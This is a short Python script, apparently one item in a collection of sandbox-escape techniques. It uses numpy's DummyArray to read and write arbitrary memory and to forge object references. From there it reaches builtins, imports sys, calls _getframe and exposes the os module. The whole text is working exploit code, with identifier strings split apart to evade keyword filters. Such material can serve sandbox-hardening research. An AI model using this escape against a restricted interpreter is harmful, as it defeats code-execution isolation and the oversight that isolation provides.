# source: numpy.lib.stride_tricks.DummyArray (carries a raw __array_interface__ dict: data pointer chosen by caller); numpy array-interface protocol docs
# family: raw memory r/w by building an array over any address with DummyArray({"data": (addr, False), ...}) + np.asarray; forged reference
# goal: sys.__dict__["_getframe"]() -> frame object, its f_globals / f_builtins
import json
import numpy as np
from numpy.lib.stride_tricks import DummyArray

def view(addr):
    spec = {"data": (addr, False), "shape": (1,), "typestr": "<u8", "version": 3}
    return np.asarray(DummyArray(spec, base=None))

def rd(addr):
    return int(view(addr)[0])

def wr(addr, val):
    v = view(addr)
    v[0] = val

def forge(addr):
    holder = [None, None]
    wr(addr, rd(addr) + 1)
    wr(rd(id(holder) + 24), addr)
    return holder[0]

u = "_" * 2
bi = forge(rd(id(json) + 16))[u + "builtins" + u]
sys_mod = bi[u + "import" + u]("sys")
sd = forge(rd(id(sys_mod) + 16))
fr = sd["_get" + "frame"]()
print(fr)
print(sd["modules"]["os"])
